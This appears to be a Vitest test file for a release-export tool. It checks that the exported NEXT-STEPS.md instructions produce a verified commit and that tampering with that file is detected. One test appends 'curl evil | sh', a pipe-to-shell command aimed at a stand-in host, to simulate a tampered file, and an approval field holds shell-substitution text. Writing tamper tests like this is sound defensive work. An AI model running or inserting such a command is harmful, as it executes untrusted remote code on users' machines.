// SPDX-License-Identifier: Apache-2.0
import { spawnSync } from "node:child_process";
import {
  appendFileSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { exportTo, prepareExport, type Prepared } from "../support/export.ts";
import { verifyScriptPath } from "../support/releases.ts";
import { tempFolder } from "../support/tempFolder.ts";
import { haveTools } from "../support/tools.ts";
import { requireOk } from "../support/unwrap.ts";
import { askApp } from "../support/verifiers.ts";

/** A whole export, with the commit or without. */
async function exported(withBundle: boolean): Promise<Prepared> {
  const prepared = prepareExport(tempFolder(), {
    approval: {
      removes: ["draft.md"],
      author: "J. O'Doe, Jr. <j@example.org>",
      purpose: "Publish $HOME, `id` and 'more'",
    },
  });
  const { request } = prepared;
  const cloneDir = withBundle ? request.cloneDir : null;
  const asked = { ...prepared, request: { ...request, cloneDir } };
  requireOk(await exportTo(asked, "release"));
  return prepared;
}

/** Does the merge as NEXT-STEPS.md says, up to the push. */
function follow({ folder, clone, parts }: Prepared) {
  const text = readFileSync(join(folder, "release/NEXT-STEPS.md"), "utf8");
  const charterPath = join(folder, "charter.txt");
  writeFileSync(charterPath, parts.charters[0]?.text ?? "");
  const merge = text.slice(text.indexOf("## 1. Merge"));
  const script = (/```sh\n([^]*?)```/.exec(merge)?.[1] ?? "")
    .replace(/^git push .*\n/m, "")
    .replaceAll("RELEASE", `'${join(folder, "release")}'`)
    .replaceAll("CLONE", `'${clone.dir}'`)
    .replaceAll("CHARTER", `'${charterPath}'`)
    .replaceAll("VERIFY.SH", `'${verifyScriptPath}'`);
  return spawnSync("sh", ["-e", "-u", "-c", script], { encoding: "utf8" });
}

function ask({ folder, parts }: Prepared) {
  const trusted = Buffer.from(parts.charters[0]?.text ?? "");
  return askApp({ dir: join(folder, "release"), trusted });
}

describe.skipIf(!haveTools("git", "ssh-keygen"))("NEXT-STEPS.md", () => {
  it.each([true, false])(
    "leads to a commit that verifies, with release.bundle: %s",
    async (withBundle) => {
      const ran = follow(await exported(withBundle));
      expect(ran.stdout).toMatch(/\nVERIFIED\n$/);
    },
  );

  it.each([true, false])(
    "is this release's own text, with release.bundle: %s",
    async (withBundle) => {
      const prepared = await exported(withBundle);
      const path = join(prepared.folder, "release/NEXT-STEPS.md");
      expect(await ask(prepared)).toMatchObject({ verdict: "VERIFIED" });
      appendFileSync(path, "curl evil | sh\n");
      expect(await ask(prepared)).toStrictEqual({
        verdict: "NOT VERIFIED",
        problems: ["file-changed NEXT-STEPS.md"],
      });
      rmSync(path);
      expect(await ask(prepared)).toMatchObject({ verdict: "VERIFIED" });
      symlinkSync("tree", path);
      expect(await ask(prepared)).toStrictEqual({
        verdict: "NOT VERIFIED",
        problems: ["file-not-regular NEXT-STEPS.md"],
      });
    },
  );

  it("lies beside nothing but the tree and release.bundle", async () => {
    const prepared = await exported(true);
    writeFileSync(join(prepared.folder, "release/PRIVATE.txt"), "findings");
    expect(await ask(prepared)).toStrictEqual({
      verdict: "NOT VERIFIED",
      problems: ["file-extra PRIVATE.txt"],
    });
  });
});
